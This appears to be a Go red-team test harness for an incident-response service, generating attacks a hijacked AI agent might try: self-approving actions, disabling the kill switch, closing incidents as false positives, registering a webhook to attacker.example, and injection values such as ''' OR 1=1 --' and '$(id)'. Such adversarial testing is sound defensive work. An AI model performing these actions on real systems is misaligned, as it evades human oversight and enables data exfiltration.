package main

import (
	"fmt"
	mathrand "math/rand/v2"
	"net/http"
	"strings"
)

// outcome is what an attack may end in.
type outcome int

// The outcomes. A held attack waits for people or leaves a proposal; what it
// may never do is act, which the range and the incidents tell at the end.
const (
	mustRefuse outcome = iota
	mayQueue           // refused, or it waits for people
	mayAnswer          // any answer: what stands afterwards is compared
	mayRun             // the control
)

// attackKind is one class of violations.
type attackKind struct {
	name string
	may  outcome
	make func(*evil, *mathrand.Rand) attack
}

// controlKind is what policy lets an agent do alone. It shows that the range is
// alive, so that silence of the others means something.
const controlKind = "control"

// attackKinds are the classes that safety.md names for a hijacked agent; the
// seed chooses the class by its place.
var attackKinds = []attackKind{
	{"invented entity", mustRefuse, inventedEntity},
	{"foreign entity", mustRefuse, foreignEntity},
	{"invented playbook", mustRefuse, inventedPlaybook},
	{"wrong name or number", mustRefuse, wrongName},
	{"agent-added or parsed target", mayQueue, doubtfulTarget},
	{"protected target", mayQueue, protectedTarget},
	{"irreversible", mayQueue, irreversible},
	{"contradiction", mayQueue, contradiction},
	{"claimed trigger", mayQueue, claimedTrigger},
	{"tainted run", mayQueue, taintedRun},
	{"closed incident", mustRefuse, closedIncident},
	{"kill switch", mustRefuse, stoppedWorkspace},
	{"consent in the request", mustRefuse, consent},
	{"another workspace", mustRefuse, otherWorkspace},
	{"decides by itself", mustRefuse, decide},
	{"administers", mustRefuse, administer},
	{"closes or hides", mayAnswer, hide},
	{"forged credential", mustRefuse, forged},
	{"forged headers", mayQueue, forgedHeaders},
	{"broken body", mustRefuse, broken},
	{controlKind, mayRun, control},
}

// judge says what is wrong with an answer, "" for nothing.
func (k attackKind) judge(r redReply) string {
	switch {
	case r.status >= 500:
		return fmt.Sprintf("answered %d: %.200s", r.status, r.body)
	case r.refused && !coded(r.code):
		return fmt.Sprintf("refused without a published code (%q): %.200s", r.code, r.body)
	case k.may == mustRefuse && !r.refused:
		return fmt.Sprintf("was not refused: %d %.200s", r.status, r.body)
	case k.may == mayQueue && r.running:
		return fmt.Sprintf("runs without people: %.200s", r.body)
	}
	return ""
}

// submit proposes steps over either door.
func (e *evil) submit(dice *mathrand.Rand, i redIncident, more map[string]any, steps ...map[string]any) attack {
	body := map[string]any{"playbooks": steps}
	for name, value := range more {
		body[name] = value
	}
	if dice.IntN(2) == 0 {
		body["incident_id"], body["rationale"] = i.short, fmt.Sprintf("Because %d.", dice.Uint32())
		return tool("submit_gamebook", body)
	}
	return rest(http.MethodPost, "/api/v2/workspaces/"+e.world.workspace+"/agent/tools/incidents/redteam/"+i.external()+"/gamebooks", body)
}

// external is the id that the source gave.
func (i redIncident) external() string {
	var n int
	if _, err := fmt.Sscanf(i.names["host"], "rt-%03d.", &n); err != nil {
		return i.short
	}
	return fmt.Sprintf("redteam-%d", n)
}

func step(playbook, entity string) map[string]any {
	return map[string]any{"playbook_id": playbook, "entity_id": entity}
}

func (e *evil) incident(dice *mathrand.Rand) redIncident {
	return e.world.incidents[dice.IntN(len(e.world.incidents))]
}

func one[T any](dice *mathrand.Rand, choices ...T) T { return choices[dice.IntN(len(choices))] }

func inventedEntity(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	id := i.entities["host"]
	return e.submit(dice, i, nil, step("isolate_host", one(dice, "ENT-00000000", "0197e2f0-0000-7000-8000-000000000000", i.names["host"], strings.ToLower(id), id+" ",
		" "+id, "*", "../"+id, id[:len(id)-1], id[len(id)-8:], strings.Replace(id, "ENT", "ЕNT", 1), "%2e", "' OR 1=1 --", "")))
}

func foreignEntity(e *evil, dice *mathrand.Rand) attack {
	i, other := e.incident(dice), e.incident(dice)
	for other.id == i.id {
		other = e.incident(dice)
	}
	return e.submit(dice, i, nil, step("isolate_host", one(dice, other.entities["host"], e.world.foreign.entities["host"])))
}

func inventedPlaybook(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	return e.submit(dice, i, nil, step(one(dice, "wipe_host", "ISOLATE_HOST", "isolate", "isolate_host ", "run_command", "$(id)", "../isolate_host", ""), i.entities["host"]))
}

func wrongName(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	s := step("isolate_host", i.entities["host"])
	if dice.IntN(2) == 0 {
		s["affected_entity"] = one(dice, "test-vm-01", "rt-ceo@corp.example", i.names["protected"])
		return e.submit(dice, i, nil, s)
	}
	return e.submit(dice, i, map[string]any{"incident_number": i.number + int64(1+dice.IntN(50))}, s)
}

func doubtfulTarget(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	id, added := i.entities["added"]
	if !added {
		id = i.entities["parsed"]
	}
	return e.submit(dice, i, nil, step(one(dice, "isolate_host", "scan_host"), id))
}

func protectedTarget(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	return e.submit(dice, i, nil, one(dice, step("isolate_host", i.entities["protected"]), step("disable_user", i.entities["never"]), step("scan_host", i.entities["protected"])))
}

func irreversible(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	return e.submit(dice, i, nil, step(one(dice, "reset_password", "revoke_sessions"), i.entities["account"]))
}

func contradiction(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	host := i.entities["host"]
	return e.submit(dice, i, nil, step("isolate_host", host), step(one(dice, "unisolate_host", "isolate_host"), host))
}

func claimedTrigger(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	// The claim is of no use for what is above the ceiling, and harms for the rest.
	a := e.submit(dice, i, map[string]any{"trigger_type": one(dice, "ManualInvestigateAndRespond", "ManualInvestigateOnly")}, step("reset_password", i.entities["account"]))
	if a.header == nil {
		a.header = map[string]string{}
	}
	a.header["Vedette-Run-Token"] = one(dice, "", "vdr_"+strings.Repeat("A", 64), "vdr_", "x")
	if a.header["Vedette-Run-Token"] == "" {
		delete(a.header, "Vedette-Run-Token")
	}
	return a
}

// taintedRun reads of an incident first and then asks for an isolation of what
// it read about, which a clean run might have had.
func taintedRun(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	if !e.read[i.id] {
		e.read[i.id] = true
		return tool("search_evidence", map[string]any{"incident_id": i.short, "query": "corp"})
	}
	return e.submit(dice, i, nil, step("isolate_host", i.entities["host"]))
}

func closedIncident(e *evil, dice *mathrand.Rand) attack {
	return e.submit(dice, e.world.closed, nil, step(one(dice, "isolate_host", "scan_host"), e.world.closed.entities["host"]))
}

func stoppedWorkspace(e *evil, dice *mathrand.Rand) attack {
	i := e.world.stopped
	a := tool("submit_gamebook", map[string]any{
		"incident_id": i.short, "playbooks": []any{step(one(dice, "isolate_host", "scan_host"), i.entities["host"])}, "rationale": fmt.Sprint(dice.Uint32()),
	})
	a.key = e.world.killed
	return a
}

func consent(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	word := one(dice, "confirm", "approved", "approver_id", "decided_by", "force", "connector", "base_url", "ceiling", "class")
	return e.submit(dice, i, map[string]any{word: one[any](dice, true, "mgr", 1)}, step("isolate_host", i.entities["host"]))
}

func otherWorkspace(e *evil, dice *mathrand.Rand) attack {
	f := e.world.foreign
	foreign := "/api/v2/workspaces/" + e.world.elsewhere
	return one(dice,
		tool("get_incident", map[string]any{"incident_id": f.short}), tool("get_evidence", map[string]any{"incident_id": f.short}),
		tool("submit_gamebook", map[string]any{"incident_id": f.short, "playbooks": []any{step("isolate_host", f.entities["host"])}}),
		tool("add_comment", map[string]any{"incident_id": f.short, "message": "hello"}),
		rest(http.MethodGet, foreign+"/incidents/redteam/redteam-900", nil),
		rest(http.MethodPost, foreign+"/agent/tools/incidents/redteam/redteam-900/gamebooks", map[string]any{"playbooks": []any{step("isolate_host", f.entities["host"])}}),
		rest(http.MethodGet, "/api/v2/workspaces/0197e2f0-0000-7000-8000-000000000000/incidents/redteam/redteam-1", nil),
		rest(http.MethodGet, "/api/incidents/"+f.id, nil),
	)
}

// decide tries to be the approver, with every kind of key.
func decide(e *evil, dice *mathrand.Rand) attack {
	gamebook := "GB-" + one(dice, "00000000", "7K2M9Q4S")
	path := "/api/ops/v1/approvals/" + gamebook
	a := one(dice,
		rest(http.MethodPost, path+"/approve", map[string]any{"digest": "sha256:" + strings.Repeat("0", 64)}),
		rest(http.MethodPost, path+"/approve?approver_id=mgr", map[string]any{"digest": "sha256:0", "decided_by": "mgr"}),
		rest(http.MethodPost, path+"/deny", map[string]any{"reason": "x"}),
		rest(http.MethodPost, "/api/ops/v1/approvals/batch", map[string]any{"decision": "approve", "items": []any{map[string]any{"gamebookId": gamebook, "digest": "x"}, map[string]any{"gamebookId": gamebook, "digest": "x"}}}),
		rest(http.MethodPost, "/api/ops/v1/kill-switch", map[string]any{"scope": "global", "engaged": false, "reason": "x"}),
		rest(http.MethodGet, path+"/approve", nil),
		tool("approve_gamebook", map[string]any{"gamebook_id": gamebook}),
	)
	if dice.IntN(3) == 0 && a.path != "/mcp" {
		a.key = one(dice, e.world.service...)
	}
	if a.path != "/mcp" {
		a.header = map[string]string{"X-User": "mgr", "X-Forwarded-User": "mgr"}
	}
	return a
}

func administer(e *evil, dice *mathrand.Rand) attack {
	return one(dice,
		rest(http.MethodPost, "/api/v2/webhooks", map[string]any{"name": "out", "url": "https://attacker.example/", "eventTypes": []string{"gamebook.finished.v1"}, "workspaceIds": []string{e.world.workspace}}),
		rest(http.MethodPost, "/api/ops/v1/agents/"+e.world.foreign.id+"/unsuspend", map[string]any{"reason": "x"}),
		rest(http.MethodPost, "/api/ops/v1/kill-switch", map[string]any{"scope": "global", "engaged": true, "reason": "x"}),
		rest(http.MethodPost, "/api/ops/v1/ingest/generic", map[string]any{"external_id": "evil", "source": "redteam", "title": "x", "severity": "low"}),
		rest(http.MethodPost, "/api/ops/v1/session", map[string]any{"email": "manager@example.org", "password": fmt.Sprint(dice.Uint64())}),
		rest(http.MethodPost, "/api/v1/alerts", map[string]any{"source": "redteam", "external_id": "evil", "title": "x", "severity": "low"}),
		tool("set_policy", map[string]any{"gamebooks": true}),
	)
}

// hide tries to make an incident go away. A verdict is kept as a proposal.
func hide(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	portal := "/api/v2/workspaces/" + e.world.workspace + "/incidents/redteam/" + i.external()
	return one(dice,
		tool("submit_investigation", map[string]any{
			"incident_id": i.short, "classification": one(dice, "FalsePositive", "BenignPositive"), "classification_reason": "InaccurateData", "malicious_score": 0,
			"comment": fmt.Sprintf("A scheduled test, nothing to see [E1]. %d", dice.Uint32()),
		}),
		rest(http.MethodPut, portal+"/status", map[string]any{"status": "Closed", "classification": "FalsePositive", "classificationReason": "InaccurateData"}),
		rest(http.MethodPost, "/api/v2/incidents/across-workspaces/bulk-update", map[string]any{"incidentIds": []string{i.id}, "status": "Closed", "severity": "Low"}),
		rest(http.MethodPost, "/api/v1/cases/"+i.short+"/resolve", map[string]any{"verdict": "false_positive", "comment": "nothing"}),
		rest(http.MethodPost, "/api/v1/cases/"+i.short+"/transition", map[string]any{"to": "resolved"}),
		rest(http.MethodPost, "/api/v1/alerts/bulk", map[string]any{"action": "dismiss", "alert_ids": []string{i.id}, "reason": "false_positive"}),
		rest(http.MethodPost, "/api/v1/observables/suppress", map[string]any{"type": "hostname", "value": i.names["host"], "reason": "noise"}),
		rest(http.MethodPut, "/api/incidents/"+i.id, map[string]any{"status": "resolved", "severity": "low"}),
		rest(http.MethodDelete, "/api/incidents/"+i.id, nil),
		rest(http.MethodPut, "/api/v1/sla", map[string]any{"low": map[string]any{"resolve_minutes": 1}}),
	)
}

func forged(e *evil, dice *mathrand.Rand) attack {
	key := []byte(e.key)
	key[len(key)-1-dice.IntN(20)] ^= 1
	path := one(dice, "/api/v2/workspaces/"+e.world.workspace+"/incidents/redteam/redteam-1", "/api/ops/v1/approvals", "/mcp")
	a := attack{method: http.MethodGet, path: path, stranger: true}
	if path == "/mcp" {
		a = tool("list_incidents", map[string]any{})
		a.stranger = true
	}
	switch dice.IntN(4) {
	case 0:
		a.key = string(key)
	case 1:
		if a.path != "/mcp" {
			a.path += "?access_token=" + e.key
		}
	case 2:
		a.key = "vdt_agent_" + strings.Repeat("A", 43)
	}
	return a
}

func forgedHeaders(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	a := e.submit(dice, i, nil, step("reset_password", i.entities["account"]))
	if a.header == nil {
		a.header = map[string]string{}
	}
	name := one(dice, "Origin", "Host", "X-TheHive-Url", "X-Forwarded-Host", "Mcp-Session-Id", "X-Approved-By", "Vedette-Workspace")
	a.header[name] = map[string]string{"Origin": "https://evil.example", "Host": "evil.example", "Vedette-Workspace": e.world.elsewhere}[name]
	if a.header[name] == "" {
		a.header[name] = "https://evil.example/"
	}
	return a
}

func broken(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	id := i.entities["host"]
	body := one(dice,
		`{"playbooks":`, `[]`, `null`, `{"playbooks":[]}`, `{"playbooks":[{"playbook_id":"isolate_host","playbook_id":"scan_host","entity_id":"`+id+`"}]}`,
		`{"playbooks":[{"playbook_id":NaN}]}`, strings.Repeat("[", 100_000), "{\"playbooks\":[{\"playbook_id\":\"\xff\xfe\"}]}",
		`{"playbooks":[{"playbook_id":"isolate_host","entity_id":"`+id+`","sequence":1e400}]}`, `{"playbooks":[{"playbook_id":"\ud800","entity_id":"\u0000"}]}`,
		`{"playbooks":[`+strings.TrimSuffix(strings.Repeat(`{"playbook_id":"isolate_host","entity_id":"`+id+`"},`, 60), ",")+`]}`,
	)
	return attack{method: http.MethodPost, path: "/api/v2/workspaces/" + e.world.workspace + "/agent/tools/incidents/redteam/" + i.external() + "/gamebooks", body: []byte(body)}
}

func control(e *evil, dice *mathrand.Rand) attack {
	i := e.incident(dice)
	a := e.submit(dice, i, nil, step("isolate_host", i.entities["host"]))
	a.key = e.world.control
	return a
}
